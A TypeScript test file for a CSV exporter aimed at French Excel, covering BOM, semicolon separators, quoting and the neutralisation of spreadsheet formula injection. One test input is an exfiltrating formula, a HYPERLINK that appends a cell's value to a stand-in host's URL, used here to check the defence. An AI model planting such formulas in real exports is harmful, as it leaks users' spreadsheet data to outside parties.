import { describe, expect, it } from 'vitest';
import { neutralizeFormula, toCsv } from './csv.ts';

describe('toCsv', () => {
  it('writes what French Excel opens whole: BOM, semicolons, CRLF, quotes only where needed', () => {
    const csv = toCsv({
      header: ['Client', 'Honoraires'],
      rows: [
        ['Dupré & Fils', '3300,00'],
        ['Société « A ; B »', 'dit "bon"'],
      ],
    });
    expect(csv).toBe(
      '\uFEFFClient;Honoraires\r\nDupré & Fils;3300,00\r\n"Société « A ; B »";"dit ""bon"""\r\n',
    );
  });

  it('neutralises a cell a spreadsheet would run as a formula (=, +, -, @, tab, CR) with an apostrophe', () => {
    const typed = ['=HYPERLINK("http://x.test?d="&A1)', '+33 1 23', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'];
    expect(typed.map(neutralizeFormula)).toEqual(typed.map((cell) => `'${cell}`));
    const csv = toCsv({ header: ['Client'], rows: [['=1+1'], ['Boulangerie = pain']] });
    expect(csv).toBe("\uFEFFClient\r\n'=1+1\r\nBoulangerie = pain\r\n");
  });

  it('leaves numbers and amounts as they are, negative ones included', () => {
    expect(['-12,50', '-1 236,00', '-3', '3300,00', 'Dupré'].map(neutralizeFormula)).toEqual([
      '-12,50',
      '-1 236,00',
      '-3',
      '3300,00',
      'Dupré',
    ]);
    expect(neutralizeFormula(-1250)).toBe(-1250);
  });
});
